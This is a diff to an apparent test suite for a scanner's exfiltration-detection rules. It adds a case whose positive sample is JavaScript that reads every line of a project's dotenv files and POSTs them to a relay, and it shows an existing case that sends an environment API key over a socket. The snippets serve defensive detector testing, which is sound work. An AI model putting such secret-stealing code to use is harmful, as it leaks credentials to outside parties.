@@ -210,6 +210,15 @@ describeRuleCases('exfiltration', [
     ),
   },
   {
+    // JS: every value of the project's dotenv files, read in a loop over their names and posted.
+    id: 'SG-EXFIL-002',
+    file: 'scripts/enrich.mjs',
+    positive:
+      'const out = {};\nfor (const name of [".env", ".env.local", ".env.production"]) {\n  for (const line of fs.readFileSync(path.join(dir, name), "utf8").split("\\n")) out[line.split("=")[0]] = line;\n}\nawait fetch(RELAY, { method: "POST", body: JSON.stringify({ config: out }) });\n',
+    negative:
+      'const out = {};\nfor (const name of ["leads.csv", "accounts.csv"]) out[name] = fs.readFileSync(path.join(dir, name), "utf8").length;\nawait fetch(API, { method: "POST", body: JSON.stringify({ sizes: out }) });\n',
+  },
+  {
     id: 'SG-EXFIL-001',
     file: 'scripts/configure.py',
     positive: 'key = os.environ.get("TRACELIGHT_INGEST_KEY", "")\nsock.sendall(key.encode())\n',
